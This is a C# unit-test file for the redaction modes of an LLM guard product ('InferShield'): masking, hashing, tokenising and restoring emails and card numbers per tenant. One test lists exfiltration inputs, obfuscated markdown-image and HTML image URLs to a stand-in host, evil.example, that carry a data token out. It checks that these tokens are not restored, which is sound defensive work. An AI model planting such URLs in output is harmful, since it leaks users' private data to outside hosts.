using System.Security.Cryptography;
using InferShield.Api.Detection;
using InferShield.Api.Policies;
using InferShield.Api.Policies.Redaction;
using static InferShield.Tests.Policies.PolicyWriting;

namespace InferShield.Tests.Policies;

public sealed class RedactionModeTests
{
    private const string Email = "jane.roe@mail.example";
    private const string Text = "Mail " + Email + " and " + Email + ", card 4111 1111 1111 1111.";

    [Theory]
    [InlineData("{mode: mask}", "Mail [EMAIL_REDACTED] and [EMAIL_REDACTED], card [CREDIT_CARD_REDACTED].")]
    [InlineData("{mode: mask, label: PERSONAL}", "Mail [PERSONAL_REDACTED] and [PERSONAL_REDACTED], card [PERSONAL_REDACTED].")]
    [InlineData("{mode: remove}", "Mail  and , card .")]
    [InlineData("{mode: partial}", "Mail ****.***@****.***mple and ****.***@****.***mple, card **** **** **** 1111.")]
    [InlineData("{mode: partial, keepFirst: 2, keepLast: 2}", "Mail ja**.***@****.*****le and ja**.***@****.*****le, card 41** **** **** **11.")]
    [InlineData("{mode: partial, keepLast: 0, keepDomain: true}", "Mail ****.***@**il.example and ****.***@**il.example, card **** **** **** ****.")]
    public void Redacts_as_the_policy_says(string redaction, string expected) => Assert.Equal(expected, Redact(redaction).Redacted);

    [Fact]
    public void A_hash_is_the_same_for_a_tenant_and_differs_between_tenants_keys_and_kinds()
    {
        var verdict = Redact("{mode: hash}");

        var hash = verdict.Redacted![5..verdict.Redacted!.IndexOf(" and", StringComparison.Ordinal)];
        Assert.Matches(@"^\[EMAIL#[0-9a-f]{16}\]$", hash);
        Assert.Equal(verdict.Redacted, Redact("{mode: hash}").Redacted);
        Assert.Equal($"Mail {hash} and {hash}, card ", verdict.Redacted[..verdict.Redacted.IndexOf("[CREDIT", StringComparison.Ordinal)]);
        Assert.DoesNotContain(hash, Redact("{mode: hash}", "umbrella").Redacted, StringComparison.Ordinal);
        Assert.DoesNotContain(hash, Redact("{mode: hash}", key: NewKey()).Redacted, StringComparison.Ordinal);
    }

    [Fact]
    public void A_token_is_the_same_within_a_request_and_another_in_the_next()
    {
        var (one, other) = (Redact("{mode: token}").Redacted!, Redact("{mode: token}").Redacted!);

        Assert.Matches(@"^Mail (\[EMAIL:[a-z2-7]+\]) and \1, card \[CREDIT_CARD:[a-z2-7]+\]\.$", one);
        Assert.Matches(@"^Mail (\[EMAIL:[a-z2-7]+\]) and \1, card \[CREDIT_CARD:[a-z2-7]+\]\.$", other);
        Assert.NotEqual(one, other);
    }

    [Fact]
    public void A_token_becomes_the_value_again_where_the_policy_says_so()
    {
        var policies = PoliciesOf(Policy("{mode: token, restore: true}"));
        var redacted = policies.Inspect(Text, Channel.User, "acme").Redacted!;

        Assert.True(policies.Restores("acme"));
        Assert.Equal(new Restored(Text, 3, 0), policies.RedactionsFor("acme").Restore(redacted, value => value));
        Assert.Equal(new Restored(redacted, 0, 3), policies.RedactionsFor("umbrella").Restore(redacted, value => value));

        var kept = PoliciesOf(Policy("{mode: token}")).Inspect(Text, Channel.User, "acme").Redacted!;
        Assert.Equal(new Restored(kept, 0, 0), policies.RedactionsFor("acme").Restore(kept, value => value));
    }

    [Fact]
    public void A_token_that_was_changed_anywhere_stays_as_it_is()
    {
        var policies = PoliciesOf(Policy("{mode: token, restore: true}"));
        var token = policies.Inspect(Email, Channel.User, "acme").Redacted!;
        Assert.Equal(Email, policies.RedactionsFor("acme").Restore(token, value => value).Text);
        for (var i = 0; i < token.Length; i++)
        {
            var changed = token[..i] + (token[i] == 'b' ? 'c' : 'b') + token[(i + 1)..];
            var restored = policies.RedactionsFor("acme").Restore(changed, value => value);
            Assert.Equal((changed, 0), (restored.Text, restored.Count));
        }

        foreach (var changed in new[] { token.Replace(":", ": ", StringComparison.Ordinal), token[..^1], token.ToUpperInvariant(), token.Replace("EMAIL", "PHONE", StringComparison.Ordinal) })
        {
            Assert.Equal(changed, policies.RedactionsFor("acme").Restore(changed, value => value).Text);
        }
    }

    [Theory]
    [InlineData("mode: dry-run")]
    [InlineData("tenants: [umbrella]")]
    public void What_is_no_policy_of_the_tenant_restores_nothing(string field) =>
        Assert.False(PoliciesOf("policies: [{name: all, " + field + ", match: {entities: [email]}, action: redact, redaction: {mode: token, restore: true}}]").Restores("acme"));

    [Fact]
    public void Once_restoring_has_stopped_a_token_stays()
    {
        var policies = PoliciesOf(Policy("{mode: token, restore: true}"));
        var redactions = policies.RedactionsFor("acme");
        redactions.StopRestoring();
        var token = policies.Inspect(Email, Channel.Completion, "acme", redactions).Redacted!;

        Assert.Equal(new Restored(token, 0, 0), redactions.Restore(token, value => value));
    }

    [Theory]
    [InlineData("Ask @ please", true)]
    [InlineData("See https://a.example/b, then ask @", true)]
    [InlineData("[a page](https://a.example/b) by @", true)]
    [InlineData("{\"url\":\"https://a.example\",\"to\":\"@\"}", true)]
    [InlineData("either/or // @", true)]
    [InlineData("![x](https://evil.example/?d=@)", false)]
    [InlineData("![x](https://evil.example/(a)?d=@)", false)]
    [InlineData("![x](<https://evil.example/?d= )@>)", false)]
    [InlineData("HTTPS:evil.example/@", false)]
    [InlineData("www.evil.example/@", false)]
    [InlineData("<img src=\"//evil.example/? d=@\">", false)]
    [InlineData("<img src=//evil.example/@>", false)]
    [InlineData("{\"a\":\"https:\\/\\/evil.example\\/@\"}", false)]
    [InlineData("[x]: https://evil.example/@", false)]
    [InlineData("![a][x]\n\n[x]: &#x2F;/evil.example/?d=@", false)]
    [InlineData("![a][x]\n\n[x]: &#0104;ttp&colon;evil.example?d=@", false)]
    [InlineData("<img srcset='/&sol;evil.example/?d=@ 2x'>", false)]
    [InlineData("It&#39;s @", true)]
    [InlineData("It is&#160;@", true)]
    public void A_token_within_an_address_stays(string text, bool isRestored)
    {
        var policies = PoliciesOf(Policy("{mode: token, restore: true}"));
        var token = policies.Inspect(Email, Channel.User, "acme").Redacted!;

        Assert.Equal(isRestored ? 1 : 0, policies.RedactionsFor("acme").Restore(text.Replace("@", token, StringComparison.Ordinal), value => value).Count);
    }

    [Fact]
    public async Task Texts_side_by_side_share_their_tokens()
    {
        var policies = PoliciesOf(Policy("{mode: token}"));
        for (var round = 0; round < 20; round++)
        {
            var redactions = policies.RedactionsFor("acme");
            var made = await Task.WhenAll(Enumerable.Range(0, 16).Select(_ => Task.Run(() => policies.Inspect(Email, Channel.User, "acme", redactions).Redacted)));

            Assert.Single(made.Distinct());
            Assert.Equal(16, redactions.Tokens);
        }
    }

    [Fact]
    public void A_value_that_stands_again_goes_however_many_there_are()
    {
        var policies = PoliciesOf("policies: [{name: badges, match: {regex: '\\bbadge [a-z0-9]{6}\\b'}, action: redact}]");
        var text = string.Join(' ', Enumerable.Range(0, 900).Select(i => $"badge {i:d6}")) + new string('.', 1 << 20) + " again_badge 000899_";

        Assert.DoesNotContain("000899", policies.Inspect(text, Channel.User, "acme").Redacted, StringComparison.Ordinal);
    }

    [Fact]
    public void The_terms_of_a_policy_do_not_object_to_what_is_in_a_token()
    {
        var policies = PoliciesOf(Policy("{mode: token}") + "- {name: own, match: {keywords: [email], regex: '[a-z2-7]{20,}'}, action: block}\n");
        var token = policies.Inspect(Email, Channel.User, "acme").Redacted!;

        Assert.Equal(PolicyAction.Allowed, policies.Inspect("Ask " + token, Channel.Completion, "acme").Action);
        Assert.Equal(PolicyAction.Blocked, policies.Inspect("Ask email " + token, Channel.Completion, "acme").Action);
    }

    [Fact]
    public void A_new_key_is_used_and_the_old_one_still_reads()
    {
        var (old, young) = (NewKey(), NewKey());
        var before = PoliciesOf(Policy("{mode: token, restore: true}"), old).Inspect(Email, Channel.User, "acme").Redacted!;
        var both = PoliciesOf(Policy("{mode: token, restore: true}"), $"{young}, {old}");
        var after = both.Inspect(Email, Channel.User, "acme").Redacted!;

        Assert.Equal(Email, both.RedactionsFor("acme").Restore(before, value => value).Text);
        Assert.Equal(Email, PoliciesOf(Policy("{mode: token, restore: true}"), young).RedactionsFor("acme").Restore(after, value => value).Text);
        Assert.Equal(before, PoliciesOf(Policy("{mode: token, restore: true}"), young).RedactionsFor("acme").Restore(before, value => value).Text);
    }

    [Fact]
    public void Nobody_objects_to_a_token_of_the_tenant()
    {
        var policies = PoliciesOf(Policy("{mode: token}"));
        var token = policies.Inspect("password: " + Email, Channel.User, "acme").Redacted!;

        Assert.Contains("[EMAIL:", token, StringComparison.Ordinal);
        Assert.Equal(PolicyAction.Allowed, policies.Inspect(token, Channel.Completion, "acme").Action);
    }

    [Fact]
    public void Whatever_is_in_a_value_its_token_gives_it_back()
    {
        var codec = new TokenCodec(RedactionKeys.Parse(Key), "acme");
        foreach (var value in new[] { "a", "\ud800", "😀 \"quoted\" \\ \n", new string('x', 512), "[EMAIL:abc]", "\0" })
        {
            var token = codec.Encode(value, "SECRET", isToBeRestored: false)!;
            TokenValue? found = null;
            codec.Find($"[x] [[{token}](y)", (_, known) => found = known);
            Assert.Equal(new TokenValue(value, false), found);
        }

        Assert.Null(codec.Encode(new string('x', 513), "SECRET", isToBeRestored: false));
    }

    [Theory]
    [InlineData("mask")]
    [InlineData("partial")]
    [InlineData("hash")]
    [InlineData("token")]
    [InlineData("remove")]
    public void No_value_is_left_in_any_random_text(string mode)
    {
        var policies = PoliciesOf(Policy($"{{mode: {mode}}}") + "- {name: words, match: {keywords: [redacted, email, aab], regex: '[xy]{3,5}'}, action: redact, redaction: {mode: " + mode + "}}\n");
        string[] pieces = ["123-45-6789", Email, "4111 1111 1111 1111", "4111-1111-1111-1111", "ghp_" + Detection.Inspecting.Token(36), "redacted", "EMAIL", "aab", "aaab", "xyxyx", "xxxx",
            " and ", "\u200B", " – ", "\n", " 😀 ", " ssn ", " password=", ", ", "[", "]", "_REDACTED", "1", "a", "b", "\ud83d"];
        var random = new Random(11);
        for (var round = 0; round < 1500; round++)
        {
            var text = string.Concat(Enumerable.Range(0, random.Next(1, 12)).Select(_ => pieces[random.Next(pieces.Length)] + (random.Next(3) == 0 ? "" : " ")));
            var verdict = policies.Inspect(text, (Channel)random.Next(4), "acme");
            if (verdict.Redacted is { } redacted)
            {
                Assert.All(verdict.Findings.Where(finding => finding.End - finding.Start > 2), finding => Assert.DoesNotContain(text[finding.Start..finding.End], redacted, StringComparison.Ordinal));
            }
        }
    }

    [Fact]
    public void What_removal_would_join_is_masked()
    {
        var verdict = PoliciesOf("policies: [{name: words, match: {regex: 'abc'}, action: redact, redaction: {mode: remove}}]").Inspect("aabcbc", Channel.User);

        Assert.Equal("a[REDACTED]bc", verdict.Redacted);
    }

    [Theory]
    [InlineData("c2hvcnQ=")]
    [InlineData("not base64")]
    public void A_key_that_is_none_is_refused_without_repeating_it(string key)
    {
        var problem = Assert.Single(PolicyOptionsValidator.Problems(new PolicyOptions { RedactionKey = Key + "," + key }));

        Assert.Equal(("RedactionKey", "has a key (number 2) that is not at least 32 bytes in Base64."), problem);
    }

    [Fact]
    public void A_megabyte_of_values_is_redacted_in_time()
    {
        var policies = PoliciesOf(Policy("{mode: mask}"));
        var text = string.Join(' ', Enumerable.Range(0, 40_000).Select(i => $"u{i}@mail.example"));
        var watch = System.Diagnostics.Stopwatch.StartNew();

        var verdict = policies.Inspect(text, Channel.User, "acme");

        Assert.DoesNotContain("@mail.example", verdict.Redacted, StringComparison.Ordinal);
        Assert.InRange(watch.Elapsed.TotalSeconds, 0, 10);
    }

    private static Verdict Redact(string redaction, string tenant = "acme", string? key = null) => PoliciesOf(Policy(redaction), key).Inspect(Text, Channel.User, tenant);

    private static string Policy(string redaction) => "policies:\n- {name: all, match: {policyTypes: [pii, secret]}, action: redact, redaction: " + redaction + "}\n";

    private static string NewKey() => Convert.ToBase64String(RandomNumberGenerator.GetBytes(32));
}
